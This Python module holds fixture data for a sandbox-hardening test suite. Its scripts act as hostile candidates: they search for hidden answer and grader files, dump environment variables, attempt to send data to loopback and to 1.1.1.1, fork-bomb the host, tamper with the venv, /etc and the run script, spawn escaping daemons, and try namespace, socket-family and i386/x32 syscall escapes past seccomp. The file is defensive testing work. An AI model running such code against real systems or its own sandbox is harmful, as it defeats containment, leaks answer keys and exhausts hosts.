"""The hostile candidates of tests/test_sandbox_hostile.py: their scripts, and the host-side listeners
they try to reach. Data only; the assertions live in the suite."""

from __future__ import annotations

import platform
import socket
import threading
import uuid


def wrong_answer_py() -> str:
    """Python lines printing an input-dependent, wrong, well-formed answer (a semantic failure)."""
    return 'json.dump({"y": 1e6 + S["a"], "z": [1e6 + S["b"], 0.0], "report": REPORT}, sys.stdout)\n'


# The first stderr line is a summary (every scenario's verdict keeps it); the second, `env:`, the environment.
PROBE = r"""
import json, os, sys
S = json.load(sys.stdin)
FULL = __FULL__
ROOT = __ROOT__  # the task's host path: a hostile candidate may well guess it
NEEDLES = ("private", "hidden", "output.json", "gates.json", "release", "task.toml", "good-linear",
           "scenario.json")
NAMES = ("output.json", "gates.json", "task.toml", "private")
skip = {"/proc", "/sys", "/dev"} | (set() if FULL else {"/usr", sys.prefix, sys.base_prefix})
REPORT = {"files": {}, "found": [], "proc": {}, "pids": [], "env": dict(os.environ), "walked": 0,
          "uid": os.getuid()}
for top, dirs, files in os.walk("/"):
    if top in skip:
        dirs[:] = []
        continue
    for name in dirs + files:
        REPORT["walked"] += 1
        p = os.path.join(top, name)
        if name in NAMES:
            REPORT["found"].append(p)
        if any(k in name for k in NEEDLES) and os.path.isfile(p):
            try:
                with open(p, errors="replace") as f:
                    REPORT["files"][p] = f.read(2000)
            except OSError as e:
                REPORT["files"][p] = repr(e)
    if REPORT["walked"] > 500_000:
        break
for pid in sorted(os.listdir("/proc")):
    if not pid.isdigit():
        continue
    REPORT["pids"].append(int(pid))
    for f in ("cmdline", "environ", "cwd", "mountinfo"):
        try:
            if f == "cwd":
                REPORT["proc"][pid + "/cwd"] = os.readlink("/proc/%s/cwd" % pid)
            else:
                with open("/proc/%s/%s" % (pid, f), "rb") as fh:
                    REPORT["proc"][pid + "/" + f] = fh.read().decode(errors="replace")
        except OSError as e:
            REPORT["proc"][pid + "/" + f] = repr(e)
    try:
        REPORT["proc"][pid + "/root"] = sorted(os.listdir("/proc/%s/root" % pid))
    except OSError as e:
        REPORT["proc"][pid + "/root"] = repr(e)
# booleans only: never echo the guessed path itself
REPORT["visible"] = {
    "root": os.path.exists(ROOT),
    "private": os.path.exists(os.path.join(ROOT, "private")),
    "hidden": os.path.exists(os.path.join(ROOT, "private", "hidden", "0", "output.json")),
    "root_via_proc1": os.path.exists("/proc/1/root" + ROOT),
    "release": os.path.exists(os.path.dirname(os.path.dirname(ROOT))),
}
sys.stderr.write(json.dumps({k: REPORT[k] for k in ("visible", "found", "walked", "uid", "pids")}))
sys.stderr.write("\nenv:" + json.dumps(REPORT["env"]) + "\n")
"""

NET = r"""
import json, socket, sys
S = json.load(sys.stdin)
REPORT = {}
for name, fam, kind, addr in [
        ("tcp_loopback", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", __TCP__)),
        ("tcp_localhost", socket.AF_INET, socket.SOCK_STREAM, ("localhost", __TCP__)),
        ("abstract_unix", socket.AF_UNIX, socket.SOCK_STREAM, "\0" + __ABSTRACT__),
        ("tcp_external", socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53)),
        ("udp_loopback", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", __UDP__))]:
    c = socket.socket(fam, kind)
    c.settimeout(1.5)
    try:
        if kind == socket.SOCK_DGRAM:
            c.sendto(b"exfiltrated", addr)
            REPORT[name] = "sent"
        else:
            c.connect(addr)
            c.sendall(b"exfiltrated")
            REPORT[name] = "connected"
    except OSError as e:
        REPORT[name] = type(e).__name__ + ": " + str(e)
    finally:
        c.close()
sys.stderr.write(json.dumps(REPORT) + "\n")
"""


class Listeners:
    """A TCP listener on 127.0.0.1, a UDP socket on 127.0.0.1 and an abstract unix socket."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.abstract_name = f"swr-test-{uuid.uuid4().hex}"
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind("\0" + self.abstract_name)
        self.unix.listen()
        self.got: list[str] = []
        self.stop = threading.Event()
        self.threads = [
            threading.Thread(target=self._serve, args=(s,), daemon=True) for s in (self.tcp, self.udp, self.unix)
        ]
        for t in self.threads:
            t.start()

    def _serve(self, s: socket.socket) -> None:
        s.settimeout(0.1)
        while not self.stop.is_set():
            try:
                if s.type == socket.SOCK_DGRAM:
                    data, _ = s.recvfrom(1024)
                    self.got.append(f"udp {data!r}")
                else:
                    conn, _ = s.accept()
                    self.got.append(f"{s.family.name} connection")
                    conn.close()
            except TimeoutError:
                continue
            except OSError:
                return

    def close(self) -> None:
        self.stop.set()
        for t in self.threads:
            t.join(timeout=2)
        for s in (self.tcp, self.udp, self.unix):
            s.close()


FORK_BOMB = r"""
import json, os, sys
S = json.load(sys.stdin)
M = __MARK__
forked = 0
for _ in range(10_000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            os.execve("/bin/sleep", [M, "60"], {"SWR_MARK": M})
        finally:
            os._exit(0)
    forked += 1
sys.stderr.write("forked %d\n" % forked)
REPORT = forked
"""

ENDLESS = r"""
import os, subprocess, sys
M = __MARK__
subprocess.Popen([M, "60"], executable="/bin/sleep", env={"SWR_MARK": M})
sys.stdout.write('{"y": ')
sys.stdout.flush()
while True:
    pass
"""

CLOSED_PIPES = r"""
import os
os.close(0); os.close(1); os.close(2)
while True:
    pass
"""

WRITER = r"""
import json, os, sys
S = json.load(sys.stdin)
M = __MARK__
REPORT = {}
targets = {
    "tmp": "/tmp/" + M,
    "home": os.path.join(os.environ.get("HOME", "/nonexistent"), M),
    "root_home": "/root/" + M,
    "host_home": os.path.join(__HOST_HOME__, M),
    "host_tmp_cand": os.path.join(__HOST_CAND__, M),
    "venv": os.path.join(sys.prefix, M),
    "venv_site": os.path.join(sys.prefix, "lib", "python%d.%d" % sys.version_info[:2], "site-packages", M + ".pth"),
    "base_python": os.path.join(sys.base_prefix, M),
    "usr": "/usr/" + M,
    "etc": "/etc/" + M,
    "workdir": os.path.join(os.getcwd(), M),
    "artifacts": os.path.join(os.environ.get("SWR_ARTIFACTS", "/nonexistent"), M),
    "run_itself": os.path.join(os.getcwd(), "run"),
}
for name, path in targets.items():
    try:
        if name == "run_itself":
            with open(path, "a") as f:
                f.write("\n# tampered\n")
        else:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(M)
        REPORT[name] = "written"
    except OSError as e:
        REPORT[name] = "%s(%s)" % (type(e).__name__, os.strerror(e.errno) if e.errno else e)
sys.stderr.write(json.dumps(REPORT) + "\n")
"""

DAEMON = r"""
import json, os, sys
S = json.load(sys.stdin)
M = __MARK__
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        if __CLOSE__:
            fd = os.open("/dev/null", os.O_RDWR)
            for i in (0, 1, 2):
                os.dup2(fd, i)
        os.execve("/bin/sleep", [M, "60"], {"SWR_MARK": M})  # keeps the inherited pipes open
    os._exit(0)
os.wait()
json.dump({"y": 2 * S["a"] + S["b"], "z": [S["a"], S["b"]]}, sys.stdout)
"""

# The reconnaissance candidate: what of the forbidden list it can reach from inside its sandbox. Its brief is
# `recon.json` beside it: {"names": import names, "libraries": native library file names, "files": every file
# the forbidden distributions and programs installed}. It prints one JSON report; a clean sandbox gives empty
# lists and false flags.
RECON = r'''
import ctypes, json, os, socket, stat, subprocess, sys, zipfile
B = json.load(open("recon.json"))
NAMES, LIBS = set(B["names"]), B["libraries"]
STUB = "raise ImportError("
SKIP = ("/proc", "/sys", "/dev")
R = {"walked": 0, "pythons": [], "site_dirs": [], "imports": [], "loaded": [], "archives": [], "readable": [],
     "sources": []}

def lib_match(name):
    return any(name == l or (name.startswith(l.split(".so")[0] + ".so") and l.startswith("lib")) for l in LIBS)

archives, libs = [], []
for top, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(top, d) not in SKIP]
    base = os.path.basename(top)
    if base in ("site-packages", "dist-packages"):
        R["site_dirs"].append(top)
    for f in files:
        p = os.path.join(top, f)
        R["walked"] += 1
        try:
            st = os.lstat(p)
        except OSError:
            continue
        if not stat.S_ISREG(st.st_mode):
            continue
        if f.startswith(("python", "pypy")) and os.access(p, os.X_OK):
            try:
                with open(p, "rb") as fh:
                    if fh.read(4) == b"\x7fELF":  # an interpreter (not a -config script): one it can run
                        R["pythons"].append(p)
            except OSError:
                pass
        if f.endswith((".whl", ".zip", ".egg", ".pyz")):
            archives.append(p)
        if lib_match(f):
            libs.append(p)
        site = ("site-packages", "dist-packages", "_vendor", "vendor", "_vendored", "extern")
        if ((f[:-3] in NAMES and f.endswith(".py") and base in site)
                or (f == "__init__.py" and base in NAMES and os.path.basename(os.path.dirname(top)) in site)):
            try:
                if STUB not in open(p).read(200):
                    R["sources"].append(p)
            except OSError:
                pass

for p in libs:
    try:
        ctypes.CDLL(p)
        R["loaded"].append(p)
    except OSError:
        pass
for p in archives:
    try:
        with zipfile.ZipFile(p) as z:
            tops = {part.split(".")[0] for n in z.namelist() for part in n.split("/")[:-1] or [n]}
        if tops & NAMES:
            R["archives"].append(p)
    except Exception:
        pass
for p in B["files"]:
    try:
        with open(p, "rb") as f:
            head = f.read(64)
        if head and not head.startswith(STUB.encode()):
            R["readable"].append(p)
    except OSError:
        pass

TRY = """
import importlib, json, sys
sys.path[:0] = json.loads(sys.argv[1])
ok = []
for n in json.loads(sys.argv[2]):
    try:
        m = importlib.import_module(n)
        if getattr(m, "__file__", None) or list(getattr(m, "__path__", []) or []):
            ok.append([n, getattr(m, "__file__", None) or list(m.__path__)[0]])
    except BaseException:
        pass
print(json.dumps(ok))
"""
extra = R["site_dirs"] + R["archives"]
for py in sorted(set(R["pythons"] + [sys.executable, "python3"])):
    try:
        out = subprocess.run([py, "-c", TRY, json.dumps(extra), json.dumps(sorted(NAMES))], capture_output=True,
                             text=True, timeout=60).stdout
        R["imports"] += [[py] + hit for hit in json.loads(out or "[]")]
    except (OSError, ValueError, subprocess.SubprocessError):
        pass

R["mountinfo"] = open("/proc/self/mountinfo").read()
libc = ctypes.CDLL(None, use_errno=True)
R["userns"] = libc.unshare(0x10000000) == 0  # CLONE_NEWUSER
R["sockets"] = {}
for fam, kind in (("AF_VSOCK", socket.SOCK_STREAM), ("AF_PACKET", socket.SOCK_RAW)):
    try:
        socket.socket(getattr(socket, fam, {"AF_VSOCK": 40, "AF_PACKET": 17}[fam]), kind).close()
        R["sockets"][fam] = True
    except OSError:
        R["sockets"][fam] = False
json.dump(R, sys.stdout)
'''

# New namespaces and socket families outside unix/inet, tried through libc and raw system calls (with
# junk in the upper half of 64-bit registers, which the kernel ignores); then what must keep working.
# __NR__: this machine's numbers of unshare, clone, clone3, socket, socketpair (ESCAPE_NR).
ESCAPE_NR = {
    "x86_64": {"unshare": 272, "clone": 56, "clone3": 435, "socket": 41, "socketpair": 53},
    "aarch64": {"unshare": 97, "clone": 220, "clone3": 435, "socket": 198, "socketpair": 199},
    "riscv64": {"unshare": 97, "clone": 220, "clone3": 435, "socket": 198, "socketpair": 199},
}
ESCAPES = r'''
import ctypes, errno, json, mmap, os, platform, socket, struct, subprocess, sys, threading
S = json.load(sys.stdin)
NR = __NR__
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
SIGCHLD, NEWUSER, HIGH = 17, 0x10000000, 1 << 40
NEW = {"newns": 0x20000, "newcgroup": 0x2000000, "newuts": 0x4000000, "newipc": 0x8000000,
       "newuser": NEWUSER, "newpid": 0x20000000, "newnet": 0x40000000}
FAMILIES = {"vsock": (40, socket.SOCK_STREAM, 0), "packet": (17, socket.SOCK_RAW, 0x300),
            "bluetooth": (31, socket.SOCK_STREAM, 3), "alg": (38, socket.SOCK_SEQPACKET, 0),
            "key": (15, socket.SOCK_RAW, 2), "can": (29, socket.SOCK_RAW, 1), "xdp": (44, socket.SOCK_RAW, 0),
            "tipc": (30, socket.SOCK_RDM, 0),  # netlink: only NETLINK_ROUTE (0), not netfilter, uevents, diag
            "netlink_netfilter": (16, socket.SOCK_RAW, 12), "netlink_uevent": (16, socket.SOCK_DGRAM, 15),
            "netlink_sock_diag": (16, socket.SOCK_DGRAM, 4), "netlink_audit": (16, socket.SOCK_RAW, 9)}
REPORT = {}

def syscall(nr, *args):
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(nr), *(ctypes.c_long(a) for a in args))
    return r, ctypes.get_errno()

def forked(r, e):
    """A clone's result: the child leaves at once, the parent reaps it."""
    if r == 0:
        os._exit(0)
    if r > 0:
        os.waitpid(r, 0)
        return "ok"
    return errno.errorcode.get(e, str(e))

def fd_result(r, e):
    if r >= 0:
        os.close(r)
        return "ok"
    return errno.errorcode.get(e, str(e))

def attempt(name, f):
    try:
        f()
        REPORT[name] = "ok"
    except OSError as e:
        REPORT[name] = errno.errorcode.get(e.errno, str(e.errno))

def clone3(flags):
    args = (ctypes.c_uint64 * 11)(flags, 0, 0, 0, SIGCHLD, 0, 0, 0, 0, 0, 0)  # struct clone_args, v2
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(NR["clone3"]), ctypes.byref(args), ctypes.c_long(ctypes.sizeof(args)))
    return forked(r, ctypes.get_errno())

def i386_vsock():
    """socket(AF_VSOCK) through the i386 ABI (int 0x80) of this x86_64 process: killed, not filtered by name."""
    code = ("import ctypes, mmap\n"
            "m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
            "m.write(bytes([0x53, 0xb8, 0x67, 1, 0, 0, 0xbb, 40, 0, 0, 0, 0xb9, 1, 0, 0, 0, 0x31, 0xd2,\n"
            "               0xcd, 0x80, 0x5b, 0x48, 0x63, 0xc0, 0xc3]))  # eax=359 socket(40, 1, 0); int 0x80\n"
            "f = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(m)))\n"
            "print(f())\n")
    p = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    return {"returncode": p.returncode, "stdout": p.stdout.strip()}

def x32_vsock():
    """socket(AF_VSOCK) through the x32 ABI (bit 30 of the number) of this x86_64 process: the filter
    kills it (another ABI, as libseccomp sees it), whether or not the kernel has x32 enabled."""
    code = ("import ctypes\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "libc.syscall.restype = ctypes.c_long\n"
            "r = libc.syscall(*map(ctypes.c_long, (0x40000000 | 41, 40, 1, 0)))  # socket(40, 1, 0)\n"
            "print(r, ctypes.get_errno())\n")
    p = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    return {"returncode": p.returncode, "stdout": p.stdout.strip()}

ctypes.set_errno(0)
REPORT["unshare_newuser"] = "ok" if libc.unshare(NEWUSER) == 0 else errno.errorcode[ctypes.get_errno()]
REPORT["unshare_raw"] = forked(*syscall(NR["unshare"], NEWUSER))
for name, flag in NEW.items():
    REPORT["clone_" + name] = forked(*syscall(NR["clone"], flag | SIGCHLD, 0, 0, 0, 0))
REPORT["clone_newuser_high"] = forked(*syscall(NR["clone"], NEWUSER | SIGCHLD | HIGH, 0, 0, 0, 0))
REPORT["clone3_newuser"] = clone3(NEWUSER)
REPORT["clone3_plain"] = clone3(0)
def lo_down():
    """RTM_NEWLINK taking lo down, over the one netlink protocol left: the kernel's answer (an errno)."""
    with socket.socket(16, socket.SOCK_RAW, 0) as nl:
        nl.sendall(struct.pack("=IHHII", 32, 16, 5, 1, 0) + struct.pack("=BxHiII", 0, 0, 1, 0, 1))
        code = struct.unpack_from("=i", nl.recv(4096), 16)[0]  # nlmsgerr.error, after the header
    return "ok" if code == 0 else errno.errorcode.get(-code, str(code))

for name, (fam, kind, proto) in FAMILIES.items():
    attempt("socket_" + name, lambda: socket.socket(fam, kind, proto).close())
REPORT["socket_vsock_high"] = fd_result(*syscall(NR["socket"], 40 | HIGH, socket.SOCK_STREAM, 0))
REPORT["socket_netlink_route_high"] = fd_result(*syscall(NR["socket"], 16, socket.SOCK_RAW, HIGH))
REPORT["netlink_route_lo_down"] = lo_down()
for name, fam in (("vsock", 40), ("netlink", 16), ("packet", 17)):
    pair = (ctypes.c_int * 2)()
    r, e = syscall(NR["socketpair"], fam, socket.SOCK_DGRAM, 0, ctypes.addressof(pair))
    REPORT["socketpair_" + name] = "ok" if r == 0 else errno.errorcode.get(e, str(e))
    for fd in pair if r == 0 else ():
        os.close(fd)
REPORT["i386_vsock"] = i386_vsock() if platform.machine() == "x86_64" else "n/a"
REPORT["x32_vsock"] = x32_vsock() if platform.machine() == "x86_64" else "n/a"
# what keeps working
for name, fam in (("unix", socket.AF_UNIX), ("inet", socket.AF_INET), ("inet6", socket.AF_INET6)):
    attempt("socket_" + name, lambda: socket.socket(fam, socket.SOCK_STREAM).close())
attempt("socketpair_unix", lambda: [s.close() for s in socket.socketpair(socket.AF_UNIX)])
attempt("socket_netlink_route", lambda: socket.socket(16, socket.SOCK_RAW, 0).close())
REPORT["if_nameindex"] = "ok" if [n for _, n in socket.if_nameindex()] == ["lo"] else repr(socket.if_nameindex())
REPORT["socket_inet_high"] = fd_result(*syscall(NR["socket"], socket.AF_INET | HIGH, socket.SOCK_STREAM, 0))
REPORT["clone_plain"] = forked(*syscall(NR["clone"], SIGCHLD, 0, 0, 0, 0))
REPORT["fork"] = forked(os.fork(), 0)
out = []
threads = [threading.Thread(target=out.append, args=(i,)) for i in range(4)]
for t in threads:
    t.start()
for t in threads:
    t.join()
REPORT["threads"] = "ok" if sorted(out) == [0, 1, 2, 3] else repr(out)
REPORT["subprocess"] = subprocess.run(["/bin/sh", "-c", "echo ok"], capture_output=True, text=True).stdout.strip()
srv = socket.create_server(("127.0.0.1", 0))
with socket.create_connection(srv.getsockname(), timeout=5) as c, srv.accept()[0] as conn:
    c.sendall(b"ok")
    REPORT["inet_loopback"] = conn.recv(2).decode()
srv.close()
sys.stderr.write(json.dumps(REPORT) + "\n")
'''

# What ESCAPES must report on every backend.
NO_NEW_NAMESPACE = {
    "unshare_newuser": "EPERM",
    "unshare_raw": "EPERM",
    "clone_newuser_high": "EPERM",
    **{f"clone_{n}": "EPERM" for n in ("newns", "newcgroup", "newuts", "newipc", "newuser", "newpid", "newnet")},
    "clone3_newuser": "ENOSYS",
    "clone3_plain": "ENOSYS",
}  # glibc falls back to clone
NO_OTHER_FAMILY = {
    f"{call}_{n}": "EAFNOSUPPORT"
    for call, names in (
        (
            "socket",
            (
                "vsock",
                "packet",
                "bluetooth",
                "alg",
                "key",
                "can",
                "xdp",
                "tipc",
                "vsock_high",
                "netlink_netfilter",
                "netlink_uevent",
                "netlink_sock_diag",
                "netlink_audit",
                "netlink_route_high",
            ),
        ),
        ("socketpair", ("vsock", "netlink", "packet")),
    )
    for n in names
}
STILL_WORKS = {f"socket_{n}": "ok" for n in ("unix", "inet", "inet6", "inet_high", "netlink_route")} | {
    "socketpair_unix": "ok",
    "if_nameindex": "ok",
    "clone_plain": "ok",
    "fork": "ok",
    "threads": "ok",
    "subprocess": "ok",
    "inet_loopback": "ok",
    "netlink_route_lo_down": "EPERM",
}  # route netlink reads the sandbox's own loopback, and changes nothing
ESCAPES_EXPECTED = NO_NEW_NAMESPACE | NO_OTHER_FAMILY | STILL_WORKS  # but the other ABIs' i386_vsock, x32_vsock


def assert_x32_killed(x32: dict | str) -> None:
    """ESCAPES' x32 socket call is killed (SIGSYS) on every backend: by bubblewrap's filter, which libseccomp
    compiles with x32 as another ABI, and by podman's runtime, whose profile names x86_64 alone."""
    assert x32 == "n/a" or x32 == {"returncode": -31, "stdout": ""}, x32


def escapes_py() -> str:
    """ESCAPES with this machine's syscall numbers."""
    return ESCAPES.replace("__NR__", repr(ESCAPE_NR[platform.machine()]))
